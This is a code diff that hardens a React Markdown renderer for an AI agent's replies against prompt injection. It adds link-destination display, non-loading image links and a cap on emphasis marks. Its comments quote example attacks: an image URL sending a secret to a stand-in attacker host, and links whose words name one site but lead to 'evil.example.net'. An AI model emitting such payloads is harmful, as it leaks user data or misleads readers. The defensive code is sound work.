@@ -3,8 +3,10 @@
 import * as React from 'react';
 import Markdown, { type Components, type ExtraProps, type Options, type UrlTransform } from 'react-markdown';
 import remarkGfm from 'remark-gfm';
+import { clientContext } from './clientContext.js';
 import { LONG_TEXT, LongText } from './LongText.js';
 import { useLocale } from './locale.js';
+import { destinationShown, type HastAny, type HastElement, type HastText, plainLinkWords, wordsOf } from './markdownLinks.js';
 import { type MarkdownPiece, markdownPieces, nestsTooDeep, PIECES_FROM } from './markdownPieces.js';
 import { safeLinkHref, safeWebUrl } from './safeUrl.js';
 import { autoDir, holdsLetter } from './textDirection.js';
@@ -12,6 +14,9 @@ import { autoDir, holdsLetter } from './textDirection.js';
 // An agent's text is untrusted (a prompt injection writes it), so URLs are allow-listed: links may be
 // http(s) or mailto, image sources http(s) only; anything else loses its URL and renders as plain text.
 const urlTransform: UrlTransform = (url, key) => (key === 'href' ? safeLinkHref(url) : safeWebUrl(url));
+
+/** Whether an element is inside a link of the reply: an image there is named in that link, not a link inside it. */
+const InsideLink = clientContext(false);
 
 type Level = 1 | 2 | 3 | 4 | 5 | 6;
 type MarkdownStrings = ReturnType<typeof useLocale>['messages']['messages']['markdown'];
@@ -37,10 +42,11 @@ function componentsFor(strings: MarkdownStrings, base: Level): Components {
     li: auto('li'),
     td: auto('td'),
     th: auto('th'),
-    a: ({ node: _node, href, children, ...rest }) =>
+    a: ({ node, href, children, ...rest }) =>
       href ? (
         <a {...rest} href={href} target="_blank" rel="noopener noreferrer">
-          {children}
+          <InsideLink.Provider value={true}>{children}</InsideLink.Provider>
+          <Destination words={wordsOf(node)} href={href} />
           <span className="agk-visually-hidden">{strings.newTab}</span>
         </a>
       ) : (
@@ -48,15 +54,7 @@ function componentsFor(strings: MarkdownStrings, base: Level): Components {
       ),
     // An image the agent names is a link, never loaded by itself: a loaded URL could carry data out of the
     // conversation (an injected `![](https://attacker/?q=secret)`) without anyone clicking anything.
-    img: ({ src, alt }) =>
-      typeof src === 'string' && src ? (
-        <a href={src} target="_blank" rel="noopener noreferrer" className="agk-markdown__image-link">
-          {strings.image(alt || src)}
-          <span className="agk-visually-hidden">{strings.newTab}</span>
-        </a>
-      ) : (
-        <span className="agk-markdown__unlinked">{alt ? strings.image(alt) : strings.imageUntitled}</span>
-      ),
+    img: ({ src, alt }) => <ImageLink src={src} alt={alt} strings={strings} />,
     pre: ({ node: _node, ...rest }) => <CodeFrame {...rest} />,
     table: ({ node: _node, ...rest }) => <TableFrame {...rest} label={strings.table} />,
     // A task list's box says whether the item is done; it is not a control anyone can tick.
@@ -74,6 +72,42 @@ function componentsFor(strings: MarkdownStrings, base: Level): Components {
     h5: heading(5),
     h6: heading(6),
   };
+}
+
+/**
+ * Where a link goes, shown beside its words when they name another place: a
+ * prompt injection writes `[https://bank.example.com/login](https://evil.example.net/x)`
+ * for the reader to trust the words. Shown too when the address holds a user
+ * name (`https://bank.example.com@evil.example.net/`, which goes to
+ * evil.example.net). A host is shown as the browser resolves it (a
+ * look-alike letter as `xn--`), left to right whatever the text around it.
+ */
+function Destination({ words, href }: { words: string; href: string }) {
+  const shown = destinationShown(words, href);
+  return shown ? (
+    <>
+      {' '}
+      <bdi dir="ltr" className="agk-markdown__destination">
+        {shown}
+      </bdi>
+    </>
+  ) : null;
+}
+
+/** An image the agent names: a link to it, or, inside a link, its name alone. */
+function ImageLink({ src, alt, strings }: { src: unknown; alt: string | undefined; strings: MarkdownStrings }) {
+  const insideLink = React.useContext(InsideLink);
+  const name = alt || (typeof src === 'string' ? src : '');
+  if (insideLink) return <span>{name ? strings.image(name) : strings.imageUntitled}</span>;
+  if (typeof src !== 'string' || !src)
+    return <span className="agk-markdown__unlinked">{alt ? strings.image(alt) : strings.imageUntitled}</span>;
+  return (
+    <a href={src} target="_blank" rel="noopener noreferrer" className="agk-markdown__image-link">
+      {strings.image(alt || src)}
+      <Destination words={alt ?? ''} href={src} />
+      <span className="agk-visually-hidden">{strings.newTab}</span>
+    </a>
+  );
 }
 
 /** A code block's frame. */
@@ -137,16 +171,81 @@ const pick =
 /** The renderings of a reply's pieces: whole blocks, runs of a paragraph, list items, a table's head and rows. */
 type Renders = Record<'blocks' | 'inline' | 'ul' | 'ol' | 'looseUl' | 'looseOl' | 'head' | 'row', Render> & { tableLabel: string };
 
-/** One piece of a reply, parsed again only when its own text changes. */
-const Piece = React.memo(function Piece({ text, render }: { text: string; render: Render }) {
+/**
+ * One piece of a reply, parsed again only when its own text changes; shown as
+ * `plain` (by default its text) when it cannot be shown as Markdown.
+ */
+const Piece = React.memo(function Piece({ text, render, plain = text }: { text: string; render: Render; plain?: string }) {
+  const tooManyMarks = React.useMemo(() => marksTooMany(text), [text]);
+  if (tooManyMarks)
+    return (
+      <span className="agk-markdown__plain" dir={autoDir(plain)}>
+        {plain}
+      </span>
+    );
   return (
-    <PieceBoundary text={text}>
+    <PieceBoundary text={plain}>
       <Markdown skipHtml urlTransform={urlTransform} remarkPlugins={remarkPlugins} {...render}>
         {text}
       </Markdown>
     </PieceBoundary>
   );
 });
+
+/**
+ * The most emphasis marks (`*`, `_`, `~`) one paragraph, heading or table
+ * cell may hold: they are paired in time that grows with the square of their
+ * count (a paragraph of 80 KB of `*a*a*a*a` lines took over half a minute).
+ */
+const MAX_INLINE_MARKS = 1_000;
+
+const isMark = (c: number) => c === 42 /* * */ || c === 95 /* _ */ || c === 126; /* ~ */
+
+function marksIn(text: string, from = 0, to = text.length): number {
+  let count = 0;
+  for (let i = from; i < to; i++) if (isMark(text.charCodeAt(i))) count++;
+  return count;
+}
+
+type MdastNode = { type: string; position?: { start: { offset?: number }; end: { offset?: number } }; children?: MdastNode[] };
+const INLINE_HOLDERS = new Set(['paragraph', 'heading', 'tableCell']);
+
+/** A remark plugin: emphasis and strikethrough are not parsed (the blocks are, in linear time). */
+function withoutEmphasis(this: unknown) {
+  const data = (this as { data(): { micromarkExtensions?: unknown[] } }).data();
+  data.micromarkExtensions = [...(data.micromarkExtensions ?? []), { disable: { null: ['attention', 'strikethrough'] } }];
+}
+
+/**
+ * Whether a paragraph, heading or table cell of `text` holds more than
+ * MAX_INLINE_MARKS emphasis marks. A text with no more than that in all costs
+ * a count; one with more is parsed for its blocks alone (emphasis left out),
+ * and each block's marks counted.
+ */
+function marksTooMany(text: string): boolean {
+  if (marksIn(text) <= MAX_INLINE_MARKS) return false;
+  let found = false;
+  const inspect = () => (tree: MdastNode) => {
+    const walk = (node: MdastNode) => {
+      const start = node.position?.start.offset;
+      const end = node.position?.end.offset;
+      if (INLINE_HOLDERS.has(node.type) && start !== undefined && end !== undefined) {
+        if (marksIn(text, start, end) > MAX_INLINE_MARKS) found = true;
+        return;
+      }
+      for (const child of node.children ?? []) if (!found) walk(child);
+    };
+    walk(tree);
+    // Nothing left to turn into elements: the blocks were all this parse was for.
+    tree.children = [];
+  };
+  try {
+    Markdown({ children: text, skipHtml: true, remarkPlugins: [remarkGfm, withoutEmphasis, inspect] });
+  } catch {
+    // Blocks the parser cannot take are shown as text by PieceBoundary.
+  }
+  return found;
+}
 
 /**
  * Shows a piece as plain text when its Markdown throws as it renders (a
@@ -174,7 +273,11 @@ export class PieceBoundary extends React.Component<{ text: string; children: Rea
  * (default 3) and the others below it, footnote ids under `idPrefix`.
  *
  * A reply that nests quotes or lists more than 32 deep renders as plain text
- * (`nestsTooDeep`). A growing reply of `piecesFrom` characters or more (1,000
+ * (`nestsTooDeep`), and so does a piece with a paragraph, heading or table
+ * cell of more than 1,000 emphasis marks (`*`, `_`, `~`), whose pairing
+ * takes time that grows with the square of their count. A link whose words
+ * name another site than the one it goes to shows that site's host beside
+ * them, and a link's words lose their direction controls. A growing reply of `piecesFrom` characters or more (1,000
  * by default) renders in pieces, each memoized on its text
  * (`markdownPieces`): what shows is the same, and a streaming reply
  * re-parses only its last piece at each frame. A reply that has not changed
@@ -213,11 +316,11 @@ export function MarkdownBody({
     const blocks: Render = {
       components: componentsFor(strings, level(headingLevel)),
       remarkRehypeOptions: { clobberPrefix: idPrefix },
-      rehypePlugins: [prefixFootnoteLabel(idPrefix)],
+      rehypePlugins: [prefixFootnoteLabel(idPrefix), plainLinkWords],
     };
     const within = (path: string[], last = false): Render => ({
       ...blocks,
-      rehypePlugins: [prefixFootnoteLabel(idPrefix), pick(path, last)],
+      rehypePlugins: [prefixFootnoteLabel(idPrefix), plainLinkWords, pick(path, last)],
     });
     return {
       blocks,
@@ -294,7 +397,7 @@ function PieceView({ piece, renders }: { piece: MarkdownPiece; renders: Renders 
         <React.Fragment key={j}>
           {'\n'}
           {piece.loose ? (
-            <Piece text={`${piece.loose.leader}\n\n${item}`} render={piece.ordered ? renders.looseOl : renders.looseUl} />
+            <Piece text={`${piece.loose.leader}\n\n${item}`} plain={item} render={piece.ordered ? renders.looseOl : renders.looseUl} />
           ) : (
             <Piece text={item} render={piece.ordered ? renders.ol : renders.ul} />
           )}
@@ -320,7 +423,7 @@ function PieceView({ piece, renders }: { piece: MarkdownPiece; renders: Renders 
             <tbody>
               {piece.rows.map((row, j) => (
                 // biome-ignore lint/suspicious/noArrayIndexKey: as above
-                <Piece key={j} text={`${piece.frame}\n${row}`} render={renders.row} />
+                <Piece key={j} text={`${piece.frame}\n${row}`} plain={row} render={renders.row} />
               ))}
             </tbody>
           ) : null}
@@ -338,10 +441,6 @@ function PieceView({ piece, renders }: { piece: MarkdownPiece; renders: Renders 
 function InlineRun({ children }: { children?: React.ReactNode }) {
   return children;
 }
-
-type HastText = { type: 'text'; value: string };
-type HastElement = { type: 'element'; tagName: string; properties?: Record<string, unknown>; children?: HastAny[] };
-type HastAny = HastText | HastElement | { type: string; children?: HastAny[] };
 
 const BLOCKS = new Set(['p', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'li', 'blockquote', 'pre', 'tr', 'table', 'ul', 'ol', 'hr', 'br', 'div']);
 
@@ -375,7 +474,7 @@ function spoken(node: HastAny): string {
  * markdownToText('**Refund issued** for [order A-1001](https://shop.example/o/1).'); // 'Refund issued for order A-1001.'
  */
 export function markdownToText(text: string): string {
-  if (nestsTooDeep(text)) return text;
+  if (nestsTooDeep(text) || marksTooMany(text)) return text;
   let tree: HastAny | undefined;
   const capture = () => (root: HastAny) => {
     tree = root;
